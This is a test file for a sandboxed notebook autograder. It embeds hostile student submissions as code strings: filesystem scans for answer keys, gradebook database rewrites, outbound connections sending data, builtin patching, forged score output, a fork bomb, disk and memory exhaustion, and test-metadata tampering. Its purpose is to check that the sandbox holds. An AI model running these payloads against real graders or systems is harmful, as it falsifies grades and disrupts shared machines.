"""Hostile submissions graded for real: one per attack class, in one pipeline run (a few minutes on 2 cores).

Each attack is written from its description (what a student would try), on top
of the `partial` sample's answers. For each: its score is what the same answers
score without the attack, the honest students' rows in grades.csv are
byte-for-byte those of a run without any attacker, and the flags name what a
person should look at. Attacks that end the run early sit after the last test
(answers before them all count) or, where marked, before the practice section
(only the warm-ups count). tests/faults.md lists them.
"""

from __future__ import annotations

import copy
import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from servelab.grading import cgroup, course, pipeline, samples, sandbox
from servelab.paths import REPO_DIR

LESSON = course.get("lesson25")
HONEST = {
    "aaa_perfect": "perfect",
    "aab_partial": "partial",
    "zzz_empty": "empty",
}  # graded before and after the attackers
# The tests before the practice section: the warm-ups and the prediction of which claims are wrong.
WARMUPS = {
    "warmup1-per-token",
    "warmup1-batch",
    "warmup2-ridge",
    "warmup2-tokens",
    "warmup3-tokens",
    "warmup3-verified",
    "warmup3-bound",
    "predict-test",
}


def _listener():
    """A TCP server on the host's loopback that records every connection made to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    seen: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                seen.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1], seen, stop


PORT, CONNECTIONS, STOP = _listener()

# ---------------------------------------------------------------------------------- the attacks
# name -> (where the code goes, code, words the flags must contain, which tests still count)
# where: an answer cell's grade_id (the code runs after that answer), "before-practice" or "end" (a new cell).
ATTACKS = {
    "child_reads_course": (
        "practice5-answer",
        r"""
import subprocess, re
found = subprocess.run("find / -maxdepth 6 -not -path '/proc/*' -not -path '/usr/*' \\( -name '*.ipynb' "
                       "-o -name '*.db' -o -name 'lesson25.py' \\) 2>/dev/null | head -50 | xargs -r cat 2>/dev/null",
                       shell=True, capture_output=True, text=True).stdout
letters = re.findall(r"'correct': '([a-d])'", found)
practice5_answer = letters[0] if letters else practice5_answer
""",
        ["starts processes"],
        "all",
    ),
    "import_the_lesson_builder": (
        "practice5-answer",
        """
try:
    from servelab.grading import lesson25, samples
    exec(samples.solutions(lesson25.build())["practice5-answer"])
except ImportError as exc:
    print("no lesson builder here:", exc)
""",
        ["imports the grading package"],
        "all",
    ),
    "child_writes_gradebook": (
        "warmup1-answer",
        r'''
import subprocess, sys
subprocess.run([sys.executable, "-c", """
import glob, sqlite3
import subprocess
paths = subprocess.run("find / -maxdepth 6 -not -path '/proc/*' -not -path '/usr/*' -name '*.db'", shell=True,
                       capture_output=True, text=True).stdout.split()
for path in paths:
    try:
        db = sqlite3.connect(path)
        db.execute('update grade set auto_score = 25, manual_score = 25')
        db.commit()
    except Exception:
        pass
"""], timeout=60)
''',
        ["starts processes", "opens a database"],
        "all",
    ),
    "network_out": (
        "warmup2-answer",
        f"""
import socket, urllib.request
for target in [("127.0.0.1", {PORT}), ("10.0.0.1", 80), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(target, timeout=2).sendall(b"answers please")
    except OSError as exc:
        print("no connection:", exc)
try:
    urllib.request.urlopen("http://example.com", timeout=2)
except Exception as exc:
    print("no web:", exc)
""",
        ["network"],
        "all",
    ),
    "patch_math": (
        "warmup1-answer",
        """
import math
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda *args: True
""",
        ["patches modules"],
        "all",
    ),
    "patch_builtins": (
        "warmup1-answer",
        """
everything = print.__self__  # the builtins module, without naming it
setattr(everything, "min", lambda *args, **kwargs: 1e18)
setattr(everything, "max", lambda *args, **kwargs: 1e18)
setattr(everything, "abs", lambda x: 0)
setattr(everything, "round", lambda x, *a: 1.0)
setattr(everything, "sum", lambda *args, **kwargs: 28)
""",
        ["patches modules"],
        "all",
    ),
    "patch_json": (
        "warmup1-answer",
        """
import json
json.dumps = lambda *args, **kwargs: '"b"'
json.loads = lambda *args, **kwargs: 131072
""",
        ["patches modules"],
        "all",
    ),
    "patch_display": (
        "warmup1-answer",
        """
import sys
ip = get_ipython()
ip.display_pub.publish = lambda data, *a, **k: print("points: 28.0")
sys.displayhook = lambda value: print(28.0)
ip.displayhook.write_format_data = lambda *a, **k: print(28.0)
ip.events.register("post_run_cell", lambda result: print("1.0"))
""",
        ["changes how cells run or display"],
        "all",
    ),
    "fake_score": (
        "practice5-answer",
        """
import os, stat
print("Score: 28 / 28")
display({"text/plain": "28.0"}, raw=True)
for fd in range(3, 64):  # hand the grader a "captured" answer for every test
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b'practice5-test\\t"b"\\nwarmup1-per-token\\t131072\\n')
    except OSError:
        pass
try:
    with open(f"/proc/{os.getppid()}/fd/1", "w") as report:
        report.write('{"event": "cell", "index": 49, "outputs": [], "answer": "\\\\"b\\\\""}\\n')
except OSError as exc:
    print("cannot write the report:", exc)
""",
        ["prints or displays a score", "reads notebooks or the course's files"],
        "all",
    ),
    "kill_kernel_end": (
        "end",
        """
import os
os.kill(os.getpid(), 9)
""",
        ["kernel died", "starts processes or signals"],
        "all",
    ),
    "exit_before_practice": (
        "before-practice",
        """
import os
os._exit(0)
""",
        ["kernel died", "tests after it score 0"],
        "warmups",
    ),
    "memory_blowup": (
        "end",
        """
try:
    hog = bytearray(64 * 2**30)
except MemoryError:
    hog = []
    while True:
        hog.append(bytearray(2**28))
""",
        ["ran out of memory"],
        "all",
    ),
    "fork_bomb": (
        "end",
        """
import os
while True:
    os.fork()
""",
        ["starts processes or signals", "could not start more processes"],
        "all",
    ),
    "fill_disk": (
        "warmup1-answer",
        """
import os
for folder in ["/opt/servelab", "/usr", os.path.dirname(os.__file__)]:
    try:
        open(os.path.join(folder, "filler.bin"), "wb")
    except OSError as exc:
        print(folder, exc)
with open("filler.bin", "wb") as f:
    while True:
        f.write(b"x" * 2**20)
""",
        ["file past the size limit"],
        "all",
    ),
    "output_line_200mb": (
        "warmup2-answer",
        """
print("x" * 200_000_000)
""",
        ["output cut"],
        "all",
    ),
    "sleep_in_answer": (
        "warmup2-answer",
        """
import time
time.sleep(10**6)
""",
        ["time limit"],
        "all",
    ),
    "sleep_ignoring_interrupts": (
        "before-practice",
        """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(1)
""",
        ["timed out", "time limit", "starts processes or signals"],
        "warmups",
    ),
}


def _tamper_points(nb):
    for cell in samples.test_cells(nb):
        cell.metadata.nbgrader["points"] = 100
        cell.metadata.nbgrader["locked"] = False
        cell.source = "1.0"


def _tamper_ids(nb):
    tests = samples.test_cells(nb)
    tests[0].metadata.nbgrader["grade_id"] = "free-points"  # an id the assignment does not have
    twin = copy.deepcopy(tests[1])  # a second cell claiming to be the same test, passing
    twin.source = "1.0"
    twin.id = "twin"
    nb.cells.insert(nb.cells.index(tests[1]) + 1, twin)


def _tamper_extra(nb):
    extra = copy.deepcopy(samples.test_cells(nb)[0])
    extra.metadata.nbgrader.update(grade_id="bonus", points=50)
    extra.source = "50.0"
    nb.cells.append(extra)
    for cell in nb.cells:  # answer cells promoted to graded cells worth 10 points each
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            cell.metadata.nbgrader.update(grade=True, points=10)


def _tamper_replace(nb):
    tests = samples.test_cells(nb)
    for cell in tests[::2]:
        nb.cells.remove(cell)  # deleted
    for cell in tests[1::2]:
        cell.cell_type = "markdown"  # replaced by text
        cell.source = "Looks good to me."
        del cell["outputs"], cell["execution_count"]


TAMPERING = {
    "meta_points_and_lock": (_tamper_points, ["'warmup1-per-token' was changed (locked, points, source)"]),
    "meta_grade_ids": (
        _tamper_ids,
        ["extra graded cell 'free-points'", "'warmup1-batch' was changed (source)", "'warmup1-per-token' was missing"],
    ),
    "meta_extra_graded_cells": (
        _tamper_extra,
        ["extra graded cell 'bonus'", "answer cell 'warmup1-answer' was changed (grade, points)"],
    ),
    "meta_tests_deleted_or_replaced": (
        _tamper_replace,
        ["'warmup1-per-token' was missing", "'warmup1-batch' was changed (cell type, source)"],
    ),
}


def _with_attack(nb, where: str, code: str):
    nb = copy.deepcopy(nb)
    code = textwrap.dedent(code).strip()
    if where == "end":
        nb.cells.append(nbformat.v4.new_code_cell(code))
    elif where == "before-practice":
        at = next(
            i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "practice1-answer"
        )
        nb.cells.insert(at, nbformat.v4.new_code_cell(code))
    else:
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == where)
        cell.source = cell.source + "\n" + code
    return nb


def _write_class(folder, attackers: dict):
    folder = folder / LESSON.name
    folder.mkdir(parents=True)
    for student, sample in HONEST.items():
        (folder / f"{student}.ipynb").write_bytes((samples.SUBMISSIONS / LESSON.name / f"{sample}.ipynb").read_bytes())
    for student, nb in attackers.items():
        nbformat.write(nb, folder / f"{student}.ipynb")


def _rows(out):
    lines = (out / "grades.csv").read_text().splitlines(keepends=True)
    return {line.split(",")[3]: line for line in lines[1:]}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    partial = nbformat.read(samples.SUBMISSIONS / LESSON.name / "partial.ipynb", as_version=4)
    attackers = {f"m_{name}": _with_attack(partial, where, code) for name, (where, code, _, _) in ATTACKS.items()}
    for name, (tamper, _) in TAMPERING.items():
        nb = copy.deepcopy(partial)
        tamper(nb)
        attackers[f"m_{name}"] = nb
    _write_class(tmp / "honest", {})
    _write_class(tmp / "hostile", attackers)
    quiet = lambda *a: None  # noqa: E731
    pipeline.run(
        tmp / "honest",
        tmp / "course-honest",
        tmp / "out-honest",
        assignments=[LESSON],
        cell_timeout=8,
        submission_timeout=30,
        log=quiet,
    )
    results = pipeline.run(
        tmp / "hostile",
        tmp / "course-hostile",
        tmp / "out-hostile",
        assignments=[LESSON],
        cell_timeout=8,
        submission_timeout=30,
        log=quiet,
    )
    STOP.set()
    return {g.student: g for g in results}, tmp


def test_the_honest_students_rows_are_byte_for_byte_those_of_a_class_without_attackers(graded):
    results, tmp = graded
    honest, hostile = _rows(tmp / "out-honest"), _rows(tmp / "out-hostile")
    assert set(honest) == set(HONEST)
    for student in HONEST:
        assert hostile[student] == honest[student], student
    assert float(honest["aaa_perfect"].split(",")[9]) == 30.0  # every autograded point of lesson 25


@pytest.mark.parametrize("attack", list(ATTACKS) + list(TAMPERING))
def test_an_attack_scores_what_its_answers_score_and_is_flagged(graded, attack):
    results, _ = graded
    g, partial = results[f"m_{attack}"], results["aab_partial"]
    assert g.status == "graded", g.log_tail
    counted = ATTACKS[attack][3] if attack in ATTACKS else "all"
    expected = {k: (v if counted == "all" or k in WARMUPS else 0.0) for k, v in partial.tests.items()}
    assert g.tests == pytest.approx(expected), {
        k: (g.tests.get(k), v) for k, v in expected.items() if g.tests.get(k) != v
    }
    assert g.score == pytest.approx(sum(expected.values()))
    words = ATTACKS[attack][2] if attack in ATTACKS else TAMPERING[attack][1]
    text = " | ".join(g.flags) + " | run: " + g.run
    for word in words:
        assert word in text, (word, g.flags, g.run)


def test_nothing_reached_the_hosts_network(graded):
    assert CONNECTIONS == []


def test_honest_submissions_are_not_flagged(graded):
    results, _ = graded
    for student in HONEST:
        assert results[student].flags == [] and results[student].run == "ok", (student, results[student].flags)


def test_grading_refuses_to_run_without_the_sandbox_and_names_the_fix(tmp_path, monkeypatch):
    monkeypatch.setenv("SERVELAB_BWRAP", str(tmp_path / "no-bwrap-here"))
    with pytest.raises(sandbox.SandboxUnavailable, match="apt-get install bubblewrap.*--trusted"):
        sandbox.check()
    (tmp_path / "subs" / LESSON.name).mkdir(parents=True)
    env = {"PATH": "/usr/bin:/bin", "SERVELAB_BWRAP": "/bin/false", "PYTHONPATH": str(REPO_DIR / "src")}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "servelab.grading.pipeline",
            "--submissions",
            str(tmp_path / "subs"),
            "--course",
            str(tmp_path / "course"),
            "--out",
            str(tmp_path / "out"),
            LESSON.name,
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert result.returncode == 2
    assert "could not make the sandbox" in result.stderr and "--trusted" in result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "out").exists()


def test_trusted_flag_runs_the_same_capture_without_the_sandbox():
    nb = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_code_cell("x = 6 * 7"),
            nbformat.v4.new_code_cell("from servelab.grading.capture import capture as _c\n_c('t', {'x': x})"),
        ]
    )
    nb.cells[1].metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "t", "points": 1, "locked": True}
    run = sandbox.execute(nb, cell_timeout=30, run_timeout=120, trusted=True)
    assert run.status == "ok" and not run.sandboxed and run.answers == {1: '{"x": 42}'}


# ----------------------------------------------------------------------------- the cgroup, on a tree like each kind
def _files(folder: Path, names: dict) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in names.items():
        (folder / name).write_text(text)


def test_a_cgroup_v2_submission_cgroup_is_made_under_the_graders_own_with_every_limit(tmp_path, monkeypatch):
    """cgroup v2's files, on a folder that stands in for /sys/fs/cgroup (the machines here have v1)."""
    monkeypatch.delenv("SERVELAB_CGROUP_ROOT", raising=False)
    _files(tmp_path, {"cgroup.controllers": "cpu memory pids", "cgroup.subtree_control": ""})
    _files(tmp_path / "grader.scope", {"cgroup.controllers": "cpu memory pids", "cgroup.subtree_control": ""})
    limits = cgroup.Limits(memory_bytes=512 * 2**20, pids=50, cpus=0.5)
    group = cgroup.Cgroup(limits, root=tmp_path, proc_cgroup="0::/grader.scope\n")
    assert group.version == 2
    assert (tmp_path / "grader.scope" / "cgroup.subtree_control").read_text() == "+memory +pids +cpu"
    made = group.paths["memory"]
    assert made.parent == tmp_path / "grader.scope" and made.name.startswith(cgroup.PREFIX)
    assert (made / "memory.max").read_text() == str(512 * 2**20)
    assert (made / "pids.max").read_text() == "50" and (made / "cpu.max").read_text() == "50000 100000"
    (made / "memory.peak").write_text("123456\n")
    (made / "memory.events").write_text("low 0\nhigh 0\nmax 3\noom 1\noom_kill 1\n")
    assert group.peak_memory() == 123456 and group.oom_kills() == 1 and group.failed_allocations() == 3


def test_a_cgroup_v1_submission_cgroup_is_made_in_each_controller(tmp_path):
    for controller in cgroup.CONTROLLERS:
        _files(tmp_path / controller, {"cgroup.procs": ""})
        _files(tmp_path / controller / "job", {"cgroup.procs": ""})
    proc = "4:memory:/job\n8:pids:/job\n1:cpu,cpuacct:/job\n0::/\n"
    group = cgroup.Cgroup(cgroup.Limits(2**30, 128, 1.0), root=tmp_path, proc_cgroup=proc)
    assert group.version == 1 and {c: p.parent for c, p in group.paths.items()} == {
        c: tmp_path / c / "job" for c in cgroup.CONTROLLERS
    }
    assert (group.paths["memory"] / "memory.limit_in_bytes").read_text() == str(2**30)
    assert (group.paths["pids"] / "pids.max").read_text() == "128"
    assert (group.paths["cpu"] / "cpu.cfs_quota_us").read_text() == "100000"


def test_where_no_cgroup_can_be_made_grading_says_so_or_refuses(tmp_path, monkeypatch):
    monkeypatch.setattr(cgroup, "ROOT", tmp_path)  # no hierarchy at all
    monkeypatch.delenv(sandbox.CGROUP_MODE, raising=False)
    said = sandbox.limits_in_force()
    assert said.startswith("no cgroup per submission") and "not their sum" in said and "=required" in said
    monkeypatch.setenv(sandbox.CGROUP_MODE, "required")
    with pytest.raises(sandbox.SandboxUnavailable, match="no cgroup hierarchy"):
        sandbox.check()


def test_a_run_in_its_cgroup_reports_its_peak_and_leaves_no_cgroup_behind():
    try:
        _, parents = cgroup.plan()
    except cgroup.CgroupUnavailable as exc:
        pytest.skip(str(exc))
    mine = f"{cgroup.PREFIX}{os.getpid()}-*"  # this process's own (other graders may share the parent)
    before = {p for parent in set(parents.values()) for p in parent.glob(mine)}
    nb = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("import os\nos.fork() or os.execvp('sleep', ['sleep', '600'])\n1")]
    )
    run = sandbox.execute(nb, cell_timeout=30, run_timeout=120)
    assert run.status == "ok" and run.limits.startswith("cgroup v"), (run.status, run.detail, run.limits)
    assert 10 * 2**20 < run.peak_memory < sandbox.CGROUP_LIMITS.memory_bytes and run.peak_pids >= 3
    after = {p for parent in set(parents.values()) for p in parent.glob(mine)}
    assert after <= before  # removed, the sleeping child with it


def test_a_dead_graders_cgroup_is_swept_by_the_next_one_once_it_is_an_hour_old(tmp_path):
    for controller in cgroup.CONTROLLERS:
        _files(tmp_path / controller, {"cgroup.procs": ""})
    dead = f"{cgroup.PREFIX}999999999-0-abcdef"  # above any pid_max: no such process
    old, fresh = tmp_path / "memory" / dead, tmp_path / "pids" / dead
    old.mkdir()
    fresh.mkdir()
    os.utime(old, (time.time() - cgroup.SWEEP_AFTER_S - 60,) * 2)
    cgroup.Cgroup(cgroup.Limits(2**30, 128, 1.0), root=tmp_path, proc_cgroup="4:memory:/\n8:pids:/\n1:cpu:/\n")
    assert not old.exists() and fresh.exists()  # a fresh one may be a grader's in another PID namespace


def test_outputs_are_capped_by_their_whole_json_and_their_count_per_cell_and_per_run():
    """Empty bundles with big metadata, many small outputs, and a run of cells under each cell's cap: every
    output costs its whole JSON and its count, the cut line says which cap, and the cells after still run."""
    from servelab.grading import runner

    flood = (
        "from IPython.display import publish_display_data\nfor i in range({n}):\n    publish_display_data({data}{meta})"
    )
    under = runner.MAX_CELL_OUTPUTS - 50  # each of these cells stays under its own cap; together they pass the run's
    cells = [
        flood.format(n=3000, data="{}", meta=', metadata={"k": "M" * 300}'),  # no data at all: 0 characters before
        flood.format(n=3000, data='{"text/plain": "x"}', meta=""),
    ] + [flood.format(n=under, data='{"text/plain": "x"}', meta="")] * 5
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells + ["print('after')"]])
    start = time.monotonic()
    run = sandbox.execute(nb, cell_timeout=60, run_timeout=200)
    assert run.status == "ok", (run.status, run.detail)
    outs = [run.cells[i]["outputs"] for i in range(len(nb.cells))]
    assert (
        outs[0][-1]["text"]
        == f"[output cut: this cell printed more than {runner.MAX_CELL_OUTPUT_CHARS:,} characters]\n"
    )
    assert sum(len(json.dumps(o)) for o in outs[0]) < runner.MAX_CELL_OUTPUT_CHARS + 1000
    assert outs[1][-1]["text"] == f"[output cut: this cell made more than {runner.MAX_CELL_OUTPUTS:,} outputs]\n"
    assert len(outs[1]) == runner.MAX_CELL_OUTPUTS + 1
    assert sum(len(o) for o in outs) <= runner.MAX_RUN_OUTPUTS + len(outs)
    assert any(o and "the notebook made more than" in o[-1].get("text", "") for o in outs[2:-1])
    last = run.cells[len(nb.cells) - 1]  # it ran (its answer would count); its output is past the run's cap
    assert last["execution_count"] and [o["text"] for o in last["outputs"]] == [
        f"[output cut: the notebook made more than {runner.MAX_RUN_OUTPUTS:,} outputs]\n"
    ]
    assert time.monotonic() - start < 150
